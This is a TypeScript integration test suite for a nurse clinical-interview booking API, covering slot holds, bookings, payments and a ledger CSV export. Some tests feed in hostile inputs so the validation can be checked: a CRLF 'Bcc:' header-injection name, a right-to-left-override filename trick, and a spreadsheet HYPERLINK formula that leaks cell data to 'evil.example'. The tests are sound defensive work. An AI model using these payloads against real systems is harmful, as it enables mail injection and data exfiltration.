import { depsFromEnv } from '../../functions/core/platform/deps.js';
import { LEDGER_CSV_COLUMNS } from '../../lib/ops/clients.js';
import { topUpMoney } from '../../functions/core/commerce/wallets.js';
import type { LocalStack } from '../../lib/local/stack.js';
import { call, mailTo, startTestStack } from '../support/local-stack.js';
import { ops } from '../support/ops.js';
import { attachmentsOf, textOf } from '../support/mail.js';
import ICAL from 'ical.js';

let stack: LocalStack;
let base: string;
let northwind: string;
let riverside: string;

const tokenFor = async (client_id: string, client_secret: string) =>
  (await call(`${base}/auth/token`, { body: { client_id, client_secret } })).body.access_token as string;

beforeAll(async () => {
  stack = await startTestStack();
  base = stack.info.families['clinical-interview']!;
  northwind = await tokenFor('demo-northwind', 'cs_demo_northwind_local_only');
  riverside = await tokenFor('demo-riverside', 'cs_demo_riverside_local_only');
});
afterAll(() => stack?.stop());

const candidate = {
  first_name: 'Ada',
  last_name: 'Nightingale',
  email: 'Ada.Nightingale@Example.org',
  phone: '+44 7700 900123',
  job_role: 'Registered Nurse',
  nmc_number: '12a3456b',
};

/** Free slots of a type, soonest first. */
async function freeSlots(token: string, typeId = 1) {
  const response = await call(`${base}/timeslots?interview_type_id=${typeId}`, { token });
  expect(response.status).toBe(200);
  return response.body.data as { date: string; time: string }[];
}

async function holdFirstFree(token: string, typeId = 1, skip = 0) {
  const slot = (await freeSlots(token, typeId))[skip]!;
  const held = await call(`${base}/timeslots/hold`, { token, body: { interview_type_id: typeId, date: slot.date, time: slot.time } });
  expect(held.status).toBe(201);
  return held.body;
}

describe('the agency flow', () => {
  it('lists types and free future slots, holds one, is refused a second hold, and releases it', async () => {
    const types = await call(`${base}/interview-types`, { token: northwind });
    expect(types.body.data).toEqual([
      { id: 1, name: 'Registered Nurse clinical interview', duration_minutes: 45, price: { amount: 4500, currency: 'GBP' } },
      { id: 2, name: 'Mental Health Nurse clinical interview', duration_minutes: 60, price: { amount: 5500, currency: 'GBP' } },
    ]);
    const slots = await freeSlots(northwind);
    expect(slots.length).toBeGreaterThan(10);
    expect(slots[0]).toEqual({ date: expect.any(String), time: expect.any(String), interview_type: { id: 1, name: 'Registered Nurse clinical interview' } });
    expect(slots.every((s) => Date.parse(`${s.date}T${s.time}:00Z`) > Date.now() - 3600_000)).toBe(true);

    const held = await holdFirstFree(northwind);
    expect(held).toEqual({
      hold_hash: expect.any(String),
      expires_at: expect.stringMatching(/[+-]\d\d:\d\d$/),
      expires_in_seconds: 1800,
      slot: expect.objectContaining({ interview_type: { id: 1, name: 'Registered Nurse clinical interview' } }),
    });

    const second = await call(`${base}/timeslots/hold`, { token: northwind, body: { interview_type_id: 1, date: slots[1]!.date, time: slots[1]!.time } });
    expect(second.status).toBe(409);
    expect(second.body).toMatchObject({
      type: '/problems/hold-conflict',
      status: 409,
      hold: { hold_hash: held.hold_hash, expires_at: held.expires_at, slot: held.slot },
    });

    expect((await call(`${base}/timeslots/hold/${held.hold_hash}`, { method: 'DELETE', token: riverside })).status).toBe(404);
    expect((await call(`${base}/timeslots/hold/${held.hold_hash}`, { method: 'DELETE', token: northwind })).status).toBe(204);
    expect((await call(`${base}/timeslots/hold/${held.hold_hash}`, { method: 'DELETE', token: northwind })).status).toBe(404);
  });

  it('refuses bad holds with 422: invalid fields point at themselves, an unoffered slot is slot-unavailable', async () => {
    const invalid = await call(`${base}/timeslots/hold`, { token: northwind, body: { interview_type_id: '1', date: '2026-02-30', time: '9am' } });
    expect(invalid.status).toBe(422);
    expect(invalid.body.errors.map((e: { pointer: string }) => e.pointer)).toEqual(['/interview_type_id', '/date', '/time']);
    const slot = (await freeSlots(northwind))[0]!;
    const unoffered = await call(`${base}/timeslots/hold`, { token: northwind, body: { interview_type_id: 1, date: slot.date, time: '03:00' } });
    expect(unoffered.status).toBe(422);
    expect(unoffered.body.type).toBe('/problems/slot-unavailable');
    const badQuery = await call(`${base}/timeslots?interview_type_id=1&from=2026-12-01&to=2027-02-01`, { token: northwind });
    expect(badQuery.status).toBe(422);
    expect(badQuery.body.errors).toEqual([{ parameter: 'to', detail: expect.stringMatching(/31 days/) }]);
    // A rule over two parameters names the one to change.
    for (const path of ['/timeslots?interview_type_id=1&from=2026-12-10&to=2026-12-01', '/bookings?from=2026-12-10&to=2026-12-01']) {
      const reversed = await call(`${base}${path}`, { token: northwind });
      expect([reversed.status, reversed.body.errors]).toEqual([422, [{ parameter: 'to', detail: '`to` must not be before `from`' }]]);
    }
  });

  it('books with credits once per Idempotency-Key, and shows it in bookings, balances and the ledger', async () => {
    const before = (await call(`${base}/client/balances`, { token: northwind })).body;
    const held = await holdFirstFree(northwind);
    const body = { ...candidate, hold_hash: held.hold_hash, pay_option: 'credits' };
    const headers = { 'idempotency-key': `book-${held.hold_hash}` };
    const created = await call(`${base}/bookings`, { token: northwind, body, headers });
    expect(created.status).toBe(201);
    expect(created.body).toMatchObject({
      candidate: {
        name: 'Ada Nightingale',
        email: 'ada.nightingale@example.org',
        phone: '+447700900123',
        job_role: 'Registered Nurse',
        nmc_number: '12A3456B',
      },
      booking_status: 'booked',
      pay_status: 'completed',
      pay_option: 'credits',
      booked_by: 'Agency',
      start_date: `${held.slot.date}T${held.slot.time}:00${created.body.start_date.slice(-6)}`,
    });

    const replay = await call(`${base}/bookings`, { token: northwind, body, headers });
    expect(replay.status).toBe(201);
    expect(replay.headers.get('idempotent-replayed')).toBe('true');
    expect(replay.body).toEqual(created.body);
    const reuse = await call(`${base}/bookings`, { token: northwind, body: { ...body, pay_option: 'balance' }, headers });
    expect(reuse.status).toBe(422);
    expect(reuse.body.type).toBe('/problems/idempotency-key-reuse');

    const after = (await call(`${base}/client/balances`, { token: northwind })).body;
    expect(after.credits[0].credits).toBe(before.credits[0].credits - 1);
    const ledger = (await call(`${base}/client/wallet-transactions?limit=1`, { token: northwind })).body;
    expect(ledger.data).toEqual([
      expect.objectContaining({ kind: 'credit_debit', amount: -1, unit: 'credits', balance_after: after.credits[0].credits, booking_id: created.body.id }),
    ]);
    expect(ledger.next_cursor).toEqual(expect.any(String));

    expect((await call(`${base}/bookings/${created.body.id}`, { token: northwind })).body).toEqual(created.body);
    expect((await call(`${base}/bookings`, { token: northwind })).body.data.map((b: { id: number }) => b.id)).toContain(created.body.id);

    // Another client never sees it.
    expect((await call(`${base}/bookings/${created.body.id}`, { token: riverside })).status).toBe(404);
    expect((await call(`${base}/bookings/${created.body.id}/interview-report`, { token: riverside })).status).toBe(404);
    expect((await call(`${base}/bookings`, { token: riverside })).body.data.map((b: { id: number }) => b.id)).not.toContain(created.body.id);
    // The report is not there until it is attached.
    expect((await call(`${base}/bookings/${created.body.id}/interview-report`, { token: northwind })).status).toBe(404);
  });

  it('refuses invoice without invoicing, keeping the hold; validates every candidate field', async () => {
    const held = await holdFirstFree(riverside);
    const refused = await call(`${base}/bookings`, { token: riverside, body: { ...candidate, hold_hash: held.hold_hash, pay_option: 'invoice' } });
    expect(refused.status).toBe(422);
    expect(refused.body.type).toBe('/problems/invoice-disabled');

    const invalid = await call(`${base}/bookings`, {
      token: riverside,
      body: { hold_hash: held.hold_hash, first_name: ' ', email: 'not-an-email', phone: '7700 900123', job_role: 'RN', nmc_number: '1234', pay_option: 'cash' },
    });
    expect(invalid.status).toBe(422);
    expect(invalid.body.errors.map((e: { pointer: string }) => e.pointer).sort()).toEqual([
      '/email',
      '/first_name',
      '/last_name',
      '/nmc_number',
      '/pay_option',
      '/phone',
    ]);

    const booked = await call(`${base}/bookings`, { token: riverside, body: { ...candidate, hold_hash: held.hold_hash, pay_option: 'balance' } });
    expect(booked.status).toBe(201);
    expect((await call(`${base}/bookings`, { token: riverside, body: { ...candidate, hold_hash: held.hold_hash, pay_option: 'balance' } })).body.type).toBe(
      '/problems/hold-used',
    );
  });

  it('candidate_pays: the candidate gets a payment link by e-mail, pays on the page, and the booking is confirmed', async () => {
    const held = await holdFirstFree(northwind, 2);
    const email = 'payer@example.org';
    const created = await call(`${base}/bookings`, {
      token: northwind,
      body: { ...candidate, email, hold_hash: held.hold_hash, pay_option: 'candidate_pays' },
    });
    expect(created.body).toMatchObject({ booking_status: 'pending_payment', pay_status: 'pending' });
    // Unpaid by payment_due_at (the earlier of 24 h after booking and 2 h before the start), it is cancelled: create and read show when.
    const due = created.body.payment_due_at as string;
    expect(due).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d[+-]\d\d:\d\d$/);
    expect(
      Math.abs(Date.parse(due) - Math.min(Date.parse(created.body.created_at) + 24 * 3_600_000, Date.parse(created.body.start_date) - 2 * 3_600_000)),
    ).toBeLessThan(1000);
    expect((await call(`${base}/bookings/${created.body.id}`, { token: northwind })).body.payment_due_at).toBe(due);

    const [mail] = await mailTo(stack, email);
    expect(mail).toMatch(/Subject: Pay for your Mental Health Nurse clinical interview/);
    const link = /(http:\/\/\S+\/pay\/\S+)/.exec(mail!)![1]!;
    expect(link.startsWith(base)).toBe(true);

    const page = await fetch(link);
    expect(page.status).toBe(200);
    expect(await page.text()).toContain('Pay £55.00');
    const paid = await fetch(link, { method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: '', redirect: 'manual' });
    expect(paid.status).toBe(303);
    expect(await (await fetch(link)).text()).toContain('Payment received');
    const booked = (await call(`${base}/bookings/${created.body.id}`, { token: northwind })).body;
    expect(booked).toMatchObject({ booking_status: 'booked', pay_status: 'completed', payment_due_at: null });

    // The mail worker delivers the confirmation with the invitation attached, as a calendar imports it.
    const confirmation = (await mailTo(stack, email, 2)).find((m) => m.includes('X-Template: booking-confirmed\n'))!;
    expect(confirmation).toMatch(/Subject: Confirmed: Mental Health Nurse clinical interview on \w+day \d+ \w+ \d{4} at \d\d:\d\d\n/);
    expect(textOf(confirmation)).toContain(booked.video_meeting.join_link);
    const [invitation] = attachmentsOf(confirmation);
    expect(invitation).toMatchObject({ filename: 'invitation.ics', contentType: 'text/calendar; charset=utf-8; method=REQUEST' });
    const event = new ICAL.Event(new ICAL.Component(ICAL.parse(invitation!.content)).getFirstSubcomponent('vevent')!);
    expect(event.startDate.toJSDate().getTime()).toBe(Date.parse(booked.start_date));
    expect(String(event.attendees[0]!.getFirstValue())).toBe(`mailto:${email}`);
  });

  it('the booking URL opens a page where a candidate books a free slot and goes to payment', async () => {
    const { booking_url } = (await call(`${base}/client/booking-url`, { token: riverside })).body;
    expect((await call(`${base}/client/booking-url`, { token: riverside })).body.booking_url).toBe(booking_url);
    const page = await (await fetch(`${booking_url}?interview_type_id=1`)).text();
    expect(page).toContain('<p class="agency">Riverside Care Staffing</p>');
    // A day first, then the times of that day only.
    const days = [...page.matchAll(/href="\?interview_type_id=1&amp;date=(\d{4}-\d{2}-\d{2})"/g)].map((m) => m[1]!);
    expect(days.length).toBeGreaterThan(1);
    const daysOfTimes = (html: string) => new Set([...html.matchAll(/name="slot" id="[^"]+" value="([^"]+)"/g)].map((m) => m[1]!.slice(0, 10)));
    expect(daysOfTimes(page)).toEqual(new Set([days[0]]));
    const second = await (await fetch(`${booking_url}?interview_type_id=1&date=${days[1]}`)).text();
    expect(daysOfTimes(second)).toEqual(new Set([days[1]]));
    expect(second).toContain(`date=${days[1]}" aria-current="date"`);
    const slot = /name="slot" id="[^"]+" value="([^"]+)"/.exec(page)![1]!;
    const form = new URLSearchParams({
      interview_type_id: '1',
      slot,
      first_name: 'Bo',
      last_name: 'Peep',
      email: 'bo@example.org',
      phone: '+447700900999',
      job_role: 'RMN',
      nmc_number: '99X1234Y',
    });
    const posted = await fetch(booking_url, {
      method: 'POST',
      headers: { 'content-type': 'application/x-www-form-urlencoded' },
      body: form.toString(),
      redirect: 'manual',
    });
    expect(posted.status).toBe(303);
    const payPage = await (await fetch(posted.headers.get('location')!)).text();
    expect(payPage).toContain('Pay £45.00');
    expect(payPage).toContain('Bo Peep');
    // A date a person reads, with the agency's name.
    expect(payPage).toMatch(/<dt>When<\/dt><dd>(Mon|Tues|Wednes|Thurs|Fri|Satur|Sun)day \d{1,2} [A-Z][a-z]+ \d{4} at \d{2}:\d{2}<\/dd>/);
    expect(payPage).toContain('<p class="agency">Riverside Care Staffing</p>');
    const bookings = (await call(`${base}/bookings?status=pending_payment`, { token: riverside })).body.data;
    expect(bookings[0]).toMatchObject({ booked_by: 'Candidate', pay_option: 'candidate_pays', candidate: { name: 'Bo Peep' } });

    // Other interviewers may offer the same time; once every one is booked, the page says so.
    const statuses: number[] = [];
    let last = '';
    for (let i = 0; i < 4 && statuses.at(-1) !== 409; i++) {
      const again = await fetch(booking_url, {
        method: 'POST',
        headers: { 'content-type': 'application/x-www-form-urlencoded' },
        body: form.toString(),
        redirect: 'manual',
      });
      statuses.push(again.status);
      last = await again.text();
    }
    expect(statuses.at(-1)).toBe(409);
    expect(statuses.slice(0, -1).every((s) => s === 303)).toBe(true);
    expect(last).toContain('That time has just been taken');
    expect((await fetch(`${base}/book/not-a-real-token`)).status).toBe(404);
  });
});

describe('phone numbers', () => {
  it('takes a UK number as people write it at home, and stores it in the international format', async () => {
    const held = await holdFirstFree(northwind, 2);
    const booked = await call(`${base}/bookings`, {
      token: northwind,
      body: { ...candidate, phone: '07700 900123', hold_hash: held.hold_hash, pay_option: 'balance' },
    });
    expect(booked.status).toBe(201);
    expect(booked.body.candidate.phone).toBe('+447700900123');
    const refused = await holdFirstFree(northwind, 2);
    const wrong = await call(`${base}/bookings`, {
      token: northwind,
      body: { ...candidate, phone: '12345', hold_hash: refused.hold_hash, pay_option: 'balance' },
    });
    expect(wrong.status).toBe(422);
    expect(wrong.body.errors).toEqual([
      { pointer: '/phone', detail: 'Use the international format, for example +447700900123 (or a UK number such as 07700 900123)' },
    ]);
    expect((await call(`${base}/timeslots/hold/${refused.hold_hash}`, { method: 'DELETE', token: northwind })).status).toBe(204);
  });
});

describe('hostile text', () => {
  const HOSTILE = 'Must not contain control, invisible formatting or noncharacter code points';

  it("refuses control and invisible formatting characters in the candidate's names, pointing at the field", async () => {
    const held = await holdFirstFree(riverside);
    const response = await call(`${base}/bookings`, {
      token: riverside,
      body: {
        ...candidate,
        first_name: 'Eve\r\nBcc: x@evil.example',
        last_name: 'Smith\u202Egnp.exe',
        job_role: 'Nurse\u200B',
        hold_hash: held.hold_hash,
        pay_option: 'balance',
      },
    });
    expect(response.status).toBe(422);
    expect(response.body.errors).toEqual([
      { pointer: '/first_name', detail: HOSTILE },
      { pointer: '/last_name', detail: HOSTILE },
      { pointer: '/job_role', detail: HOSTILE },
    ]);
    expect((await call(`${base}/timeslots/hold/${held.hold_hash}`, { method: 'DELETE', token: riverside })).status).toBe(204);
  });

  it('the booking page says so next to the field, and books nothing', async () => {
    const { booking_url } = (await call(`${base}/client/booking-url`, { token: riverside })).body;
    const page = await (await fetch(`${booking_url}?interview_type_id=1`)).text();
    const slot = /name="slot" id="[^"]+" value="([^"]+)"/.exec(page)![1]!;
    const before = (await call(`${base}/bookings?status=pending_payment&limit=100`, { token: riverside })).body.data.length;
    const form = new URLSearchParams({
      interview_type_id: '1',
      slot,
      first_name: 'Eve\r\nBcc: x@evil.example',
      last_name: 'Peep\u0000',
      email: 'eve@example.org',
      phone: '+447700900998',
      job_role: 'RMN',
      nmc_number: '99X1234Y',
    });
    const posted = await fetch(booking_url, {
      method: 'POST',
      headers: { 'content-type': 'application/x-www-form-urlencoded' },
      body: form.toString(),
      redirect: 'manual',
    });
    expect(posted.status).toBe(422);
    const html = await posted.text();
    expect(html).toMatch(new RegExp(`id="first_name-error">${HOSTILE}<`));
    expect(html).toMatch(new RegExp(`id="last_name-error">${HOSTILE}<`));
    expect((await call(`${base}/bookings?status=pending_payment&limit=100`, { token: riverside })).body.data.length).toBe(before);
  });
});

describe('the ledger CSV', () => {
  it('neutralises text cells a spreadsheet would run as formulas, and leaves negative amounts as numbers', async () => {
    const held = await holdFirstFree(northwind);
    const booked = await call(`${base}/bookings`, { token: northwind, body: { ...candidate, hold_hash: held.hold_hash, pay_option: 'credits' } });
    expect(booked.status).toBe(201);
    const notes = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', '+1+2', '-2+3', '@SUM(A1:A9)', '\tTabbed', '\rReturned', 'Plain note'];
    // Operator notes, as `ops clinical-interview money topup --reason` writes them.
    for (const note of notes) await topUpMoney(depsFromEnv(), 'demo-riverside', 'clinical-interview', 1, note);
    const csv = await ops(stack, 'ledger', 'list', '--month', new Date().toISOString().slice(0, 7), '--csv');
    expect(csv.status).toBe(0);
    const lines = csv.stdout.split('\r\n');
    expect(lines[0]).toBe(LEDGER_CSV_COLUMNS.join(','));
    // The debit: a negative number, unquoted and unprefixed.
    expect(lines.find((l) => l.includes(`,credit_debit,`) && l.includes(`,${booked.body.id},`))).toMatch(/,demo-northwind,credit_debit,-1,credits,\d+,/);
    // balance_after, then ten empty columns (booking, product, pay option, provider, refund, fee), then the note.
    const noteOf = (line: string) => line.slice(line.indexOf(','.repeat(11)) + 11);
    const topups = lines.filter((l) => l.includes(',demo-riverside,money_topup,1,GBP,'));
    expect(topups.map(noteOf)).toEqual(
      expect.arrayContaining([
        '"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")"',
        "'+1+2",
        "'-2+3",
        "'@SUM(A1:A9)",
        "'\tTabbed",
        '"\'\rReturned"',
        'Plain note',
      ]),
    );
  }, 90_000);
});
